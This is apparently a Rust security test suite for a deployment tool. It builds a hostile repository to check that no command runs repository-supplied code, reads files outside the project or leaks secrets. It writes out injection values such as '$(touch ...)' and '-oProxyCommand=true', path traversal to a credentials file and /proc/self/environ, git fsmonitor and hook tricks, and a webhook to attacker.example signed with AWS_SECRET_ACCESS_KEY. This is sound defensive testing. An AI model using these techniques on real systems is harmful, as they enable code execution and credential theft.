//! A repository that an attacker can change: each command is run on it, and nothing of it is executed
//! outside of the sandbox, no file outside of it is read, and nothing of it is written elsewhere.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use cairn_tests::{Project, Ran, run, tool};
use tempfile::TempDir;

/// What the operator's environment holds, and must not leak.
const PLANTED: &str = "planted-value-of-the-operator";
const HOST: &str = "e2e-hostile";

/// A project with every trick. What is executed leaves a file in `marks`.
struct Hostile {
    project: Project,
    marks: TempDir,
    outside: TempDir,
}

impl Hostile {
    fn new() -> Self {
        let mut project = Project::with_shared_store();
        let tree = project.move_into("tree/infra").join("tree");
        project.front(&format!("hosts/{HOST}.toml"), "");
        fs::remove_file(project.path("hosts/local.toml")).expect("a definition");
        // The host reads what `local` may.
        let index = project.path("secrets/secrets.toml");
        let text = fs::read_to_string(&index).expect("the index of secrets");
        fs::write(&index, text.replace("\"local\"", &format!("{HOST:?}"))).expect("a writable project");
        let hostile =
            Self { project, marks: TempDir::new().expect("a folder"), outside: TempDir::new().expect("a folder") };
        fs::write(hostile.outside.path().join("credentials"), PLANTED).expect("a file");
        hostile.python();
        hostile.programs();
        hostile.git(&tree);
        hostile
    }

    fn mark(&self, name: &str) -> PathBuf {
        self.marks.path().join(name)
    }

    /// Names that Python looks for in the current folder.
    fn python(&self) {
        for name in ["pip", "sitecustomize", "usercustomize", "json", "_distutils_hack"] {
            let code = format!("open({:?}, 'w')\n", self.mark(name).display().to_string());
            fs::write(self.project.path(&format!("{name}.py")), &code).expect("a file");
        }
        let package = self.project.path("pip");
        fs::create_dir_all(&package).expect("a folder");
        for name in ["__init__.py", "__main__.py"] {
            let code = format!("open({:?}, 'w')\n", self.mark("pip-package").display().to_string());
            fs::write(package.join(name), code).expect("a file");
        }
        fs::write(self.project.path("uv.toml"), "index-url = \"http://127.0.0.1:1/simple\"\n").expect("a file");
        fs::write(self.project.path("pyproject.toml"), "[tool.uv]\nindex-url = \"http://127.0.0.1:1/simple\"\n")
            .expect("a file");
    }

    /// Programs that are found by name, in the folders that tools look into.
    fn programs(&self) {
        for folder in [".", "bin", ".venv/bin"] {
            let folder = self.project.path(folder);
            fs::create_dir_all(&folder).expect("a folder");
            for name in ["python3", "python", "git", "ssh", "uv", "sh", "systemd-analyze", "systemd-nspawn"] {
                let program = folder.join(name);
                let text = format!("#!/bin/sh\ntouch {}\nexit 1\n", self.mark(&format!("program-{name}")).display());
                fs::write(&program, text).expect("a file");
                fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).expect("a mode");
            }
        }
        fs::write(self.project.path(".venv/pyvenv.cfg"), "home = /usr/bin\n").expect("a file");
    }

    /// A repository that runs programs at every question, and whose project folder looks like a bare one
    /// that does.
    fn git(&self, tree: &Path) {
        let git = |arguments: &[&str]| {
            let identity = ["-c", "user.name=x", "-c", "user.email=x@example.org"];
            run(Command::new("git").arg("-C").arg(tree).args(identity).args(arguments)).ok();
        };
        git(&["init", "-q"]);
        git(&["add", "infra/deploy.toml", "infra/hosts"]);
        git(&["commit", "-q", "-m", "a project"]);
        fs::create_dir_all(self.project.path("objects")).expect("a folder");
        fs::create_dir_all(self.project.path("refs/heads")).expect("a folder");
        fs::write(self.project.path("HEAD"), "ref: refs/heads/main\n").expect("a file");
        let config = format!(
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch {}\"\n",
            self.mark("fsmonitor").display()
        );
        fs::write(self.project.path("config"), config).expect("a file");
        let hook = tree.join(".githooks/post-index-change");
        fs::create_dir_all(hook.parent().expect("a folder above")).expect("a folder");
        fs::write(&hook, format!("#!/bin/sh\ntouch {}\n", self.mark("hook").display())).expect("a file");
        fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).expect("a mode");
        git(&["config", "core.hooksPath", ".githooks"]);
        git(&["config", "core.fsmonitor", &format!("touch {}", self.mark("own-fsmonitor").display())]);
        self.is_loaded(tree);
    }

    /// Each trick works on a tool that is not careful, so that the test can fail.
    fn is_loaded(&self, tree: &Path) {
        let path = self.path_with_the_project();
        let asks = |folder: &Path, path: &str| {
            // Whatever it says: it leaves marks.
            run(Command::new("git").args(["status", "--porcelain"]).current_dir(folder).env("PATH", path));
        };
        let own = std::env::var("PATH").expect("a path");
        asks(tree, &own);
        asks(&self.project.path("."), &own);
        run(Command::new("env").args(["systemd-analyze"]).current_dir(self.project.path(".")).env("PATH", &path));
        run(Command::new("python3").args(["-c", "import json"]).current_dir(self.project.path(".")));
        for mark in ["own-fsmonitor", "fsmonitor", "program-systemd-analyze", "json"] {
            fs::remove_file(self.mark(mark)).unwrap_or_else(|e| panic!("{mark} was not executed: {e}"));
        }
        for mark in fs::read_dir(self.marks.path()).expect("a folder").flatten() {
            fs::remove_file(mark.path()).expect("a mark");
        }
    }

    /// A search path that begins in the project.
    fn path_with_the_project(&self) -> String {
        format!(".:bin:.venv/bin::{}", std::env::var("PATH").expect("a path"))
    }

    /// A section for hosts that pull, and the file of the key that signs for them.
    fn pull(&self) -> (String, PathBuf) {
        let (cache, key) = (self.outside.path().join("cache"), self.outside.path().join("cache.key"));
        fs::create_dir(&cache).expect("a folder");
        let generated = self.deploy(&["cache-key", "generate", "test-1", key.to_str().expect("text")]).ok();
        let public = generated.stdout.split_whitespace().find(|word| word.starts_with("test-1:")).expect("a key");
        let recipient = self.outside.path().join("pull");
        tool("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "", "-f", recipient.to_str().expect("text")]);
        let recipient = fs::read_to_string(recipient.with_extension("pub")).expect("a public key");
        let cache = cache.display();
        let recipient = recipient.trim();
        let pull = format!(
            "[pull]\ncache = \"file://{cache}\"\ntrusted_public_keys = [\"{public}\"]\nrecipient = \"{recipient}\"\n"
        );
        (pull, key)
    }

    /// In the project's folder, with secrets in the environment.
    #[track_caller]
    fn deploy(&self, arguments: &[&str]) -> Ran {
        let ran = run(self
            .project
            .command(arguments)
            .env("AWS_SECRET_ACCESS_KEY", PLANTED)
            .env("PYTHONPATH", ".")
            .env("PATH", self.path_with_the_project())
            .env_remove("PIP_INDEX_URL")
            .env_remove("DEPLOY_PYPI_INDEX"));
        let executed: Vec<_> = fs::read_dir(self.marks.path()).expect("a folder").flatten().collect();
        assert!(executed.is_empty(), "{arguments:?} executed {executed:?}\n{ran:?}");
        for output in [&ran.stdout, &ran.stderr] {
            assert!(!output.contains(PLANTED), "{arguments:?} shows a secret: {output}");
        }
        ran
    }
}

#[test]
fn no_command_executes_what_the_repository_brings() {
    let hostile = Hostile::new();
    let machine = hostile.project.member(HOST);
    hostile.deploy(&["build", "images.proxy"]).ok();
    hostile.deploy(&["build", &format!("hosts.{HOST}")]).ok();
    hostile.deploy(&["config", "show", HOST]).ok();
    hostile.deploy(&["switch", HOST, "--yes"]).ok();
    hostile.project.edit("services/proxy.toml", "memory = \"256M\"", "memory = \"257M\"");
    hostile.deploy(&["plan", HOST]).ok();
    hostile.deploy(&["switch", HOST, "--yes"]).ok();
    hostile.deploy(&["status", HOST]).ok();
    // Whether or not every package is still there: the index is looked for, and the resolver runs.
    hostile.deploy(&["lock", "images.smoke"]);
    let (pull, key) = hostile.pull();
    hostile.project.edit(&format!("hosts/{HOST}.toml"), "[machine]", &format!("{pull}\n[machine]"));
    hostile.deploy(&["publish", HOST, "--key", key.to_str().expect("text")]).ok();
    drop(machine);
}

#[test]
fn no_definition_reads_a_file_outside_of_the_project() {
    let hostile = Hostile::new();
    let definition = format!("hosts/{HOST}.toml");
    let original = fs::read_to_string(hostile.project.path(&definition)).expect("a definition");
    let outside = hostile.outside.path().join("credentials");
    let outside = outside.to_str().expect("text");
    symlink(outside, hostile.project.path("leak")).expect("a link");
    symlink(hostile.outside.path(), hostile.project.path("leaks")).expect("a link");
    let up = format!("../../../../../../../..{outside}");
    let build = |more: &str| {
        fs::write(hostile.project.path(&definition), format!("{original}{more}")).expect("a writable project");
        let ran = hostile.deploy(&["build", &format!("hosts.{HOST}")]);
        fs::write(hostile.project.path(&definition), &original).expect("a writable project");
        ran
    };
    for source in ["/proc/self/environ", outside, &up, "../leak", "../leaks/credentials"] {
        for key in ["source", "template"] {
            let more = format!("[etc.motd]\n{key} = \"{source}\"\n");
            build(&more).fails(1, &[&format!("hosts/{HOST}.toml:"), "leads out of the project", "[files] outside"]);
        }
        let include = original.replacen("include = [", &format!("include = [\"{source}\", "), 1);
        fs::write(hostile.project.path(&definition), include).expect("a writable project");
        hostile.deploy(&["build", &format!("hosts.{HOST}")]).fails(1, &["leads out of the project"]);
        fs::write(hostile.project.path(&definition), &original).expect("a writable project");
    }

    // A file of an image, a folder of an image, and what a lock is written to.
    let image = fs::read_to_string(hostile.project.path("images/smoke/image.toml")).expect("a definition");
    symlink(hostile.outside.path(), hostile.project.path("images/smoke/linked")).expect("a link");
    fs::write(
        hostile.project.path("images/smoke/image.toml"),
        format!("{image}\n[[files]]\nsource = \"linked/credentials\"\ntarget = \"/credentials\"\n"),
    )
    .expect("a writable project");
    hostile.deploy(&["build", "images.smoke"]).fails(1, &["linked/credentials", "leads out of the project"]);
    fs::write(hostile.project.path("images/smoke/image.toml"), &image).expect("a writable project");
    let victim = hostile.outside.path().join("victim");
    fs::write(&victim, "kept").expect("a file");
    symlink(&victim, hostile.project.path("images/smoke/image.lock.new")).expect("a link");
    hostile.deploy(&["lock", "images.smoke"]);
    assert_eq!(fs::read_to_string(&victim).expect("a file"), "kept");
    fs::remove_file(hostile.project.path("images/smoke/image.lock")).expect("a lock");
    symlink(&victim, hostile.project.path("images/smoke/image.lock")).expect("a link");
    hostile.deploy(&["build", "images.smoke"]).fails(1, &["leads out of the project"]);

    // A folder outside that the project alone names is not read; nor is any of the kernel.
    let policy = hostile.project.path("deploy.toml");
    let text = fs::read_to_string(&policy).expect("the project file");
    let shown = hostile.outside.path().display().to_string();
    fs::write(&policy, format!("{text}\n[files]\noutside = [{shown:?}, \"/proc/self\"]\n"))
        .expect("a writable project");
    for (source, said) in [(outside, "--allow-outside"), ("/proc/self/environ", "nothing is read from there")] {
        build(&format!("[etc.motd]\nsource = \"{source}\"\n")).fails(1, &[&format!("hosts/{HOST}.toml:"), said]);
    }
    // An operator allows the one; the output lists it, and the next run knows it.
    fs::write(hostile.outside.path().join("credentials"), "shared\n").expect("a file");
    hostile.deploy(&["build", "images.proxy", "--allow-outside", &shown]).ok();
    for (folder, said) in [("/proc/self", "is never read"), ("/", "is never read"), ("/usr", "does not name /usr")] {
        hostile.deploy(&["build", "images.proxy", "--allow-outside", folder]).fails(1, &[said, "--allow-outside"]);
    }
    build("[etc.motd]\nsource = \"/proc/self/environ\"\n").fails(1, &["nothing is read from there"]);
    let built = build(&format!("[etc.motd]\nsource = \"{outside}\"\n")).ok();
    assert!(built.stderr.contains(&shown) && built.stderr.contains("outside of the project"), "{built:?}");
    assert!(stored(&hostile.project, "shared\n") && !stored(&hostile.project, PLANTED));
}

/// Whether a closure of this host in the store holds this text at `etc/motd`.
fn stored(project: &Project, text: &str) -> bool {
    let entries = fs::read_dir(project.store().join("nix/store")).expect("a store").flatten();
    let closures = entries.filter(|entry| entry.file_name().to_string_lossy().ends_with(&format!("-{HOST}-host")));
    let motd = |entry: &fs::DirEntry| fs::read_to_string(Path::new(&entry.path()).join("etc/motd")).ok();
    closures.filter_map(|entry| motd(&entry)).any(|motd| motd == text)
}

/// Which secrets a host reads stands in the repository.
#[test]
fn a_host_gets_no_other_secret_unasked() {
    let hostile = Hostile::new();
    let (pull, key) = hostile.pull();
    hostile.project.edit(&format!("hosts/{HOST}.toml"), "[machine]", &pull);
    let identity = hostile.outside.path().join("identity.txt");
    let identity = identity.to_str().expect("text");
    hostile.deploy(&["secrets", "init", "--identity", identity]).ok();
    let publish = |more: &[&str]| {
        let arguments = [&["publish", HOST, "--key", key.to_str().expect("text")], more].concat();
        run(hostile.project.command(&arguments).env("DEPLOY_IDENTITY", identity))
    };
    let first = publish(&[]).ok();
    assert!(first.stderr.contains("for the first time here") && first.stderr.contains("jwt-secret"), "{first:?}");

    let index = hostile.project.path("secrets/secrets.toml");
    let text = fs::read_to_string(&index).expect("the index of secrets");
    let other = format!("\n[secrets.database-root]\nhosts = [{HOST:?}]\ngenerate = \"hex:16\"\n");
    fs::write(&index, text + &other).expect("a writable project");
    hostile.deploy(&["secrets", "set", "database-root", "--generate", "--identity", identity]).ok();
    publish(&[]).ok();
    let reads = "[services.api]\ncredentials = { other = \"database-root\" }\n";
    hostile.project.edit("services/front.toml", "[services.api]\n", reads);
    for _ in 0..2 {
        publish(&[]).fails(1, &["did not get from this computer before: database-root", "--accept-recipient"]);
    }
    let accepted = publish(&["--accept-recipient", HOST]).ok();
    assert!(accepted.stderr.contains("database-root"), "{accepted:?}");
    hostile.project.edit("services/proxy.toml", "memory = \"256M\"", "memory = \"257M\"");
    assert!(!publish(&[]).ok().stderr.contains("database-root"));

    // Nor by the file of a secret that it may read.
    let [from, to] = ["jwt-secret", "database-root"].map(|name| hostile.project.path(&format!("secrets/{name}.age")));
    fs::copy(from, to).expect("a writable project");
    hostile.project.edit(
        "secrets/secrets.toml",
        "[secrets.database-root]\nhosts",
        "[secrets.database-root]\nnotifications = true\nhosts",
    );
    let text = fs::read_to_string(&index).expect("the index of secrets");
    let (before, after) = text.split_once("[secrets.database-root]").expect("an entry");
    fs::write(&index, format!("{before}[secrets.database-root]{}", after.replacen("version = 1", "version = 2", 1)))
        .expect("a writable project");
    publish(&[]).fails(1, &["database-root.age", "it holds the secret `jwt-secret`"]);
}

/// Values that a shell, `ssh` or a webhook would act on are refused where they are written.
#[test]
fn values_of_definitions_are_never_commands() {
    let hostile = Hostile::new();
    let touch = format!("$(touch {})", hostile.mark("shell").display());
    let definition = |address: &str, user: &str| format!("[ssh]\naddress = \"{address}\"\nuser = \"{user}\"\n");
    let touch_name = format!("`touch {}`", hostile.mark("backticks").display());
    for (address, user) in [
        (touch.as_str(), "root"),
        (touch_name.as_str(), "root"),
        ("-oProxyCommand=true", "root"),
        ("web-1", touch.as_str()),
        ("web-1", "-oProxyCommand=true"),
        ("web 1", "root"),
    ] {
        fs::write(hostile.project.path("hosts/other.toml"), definition(address, user)).expect("a writable project");
        for command in [&["plan", "other"][..], &["switch", "other", "--yes"], &["status", "other"], &["ssh", "other"]]
        {
            hostile.deploy(command).fails(1, &["hosts/other.toml:"]);
        }
    }
    fs::remove_file(hostile.project.path("hosts/other.toml")).expect("a definition");
    // A webhook of the repository signs with a variable that is not made for it.
    let policy = hostile.project.path("deploy.toml");
    let text = fs::read_to_string(&policy).expect("the project file");
    let notify = "\n[[notify]]\nkind = \"webhook\"\nurl = \"https://attacker.example/\"\nsigning_key = { env = \"AWS_SECRET_ACCESS_KEY\" }\n";
    fs::write(&policy, format!("{text}{notify}")).expect("a writable project");
    hostile.deploy(&["notify", "test"]).fails(1, &["deploy.toml", "DEPLOY_NOTIFY_"]);
}
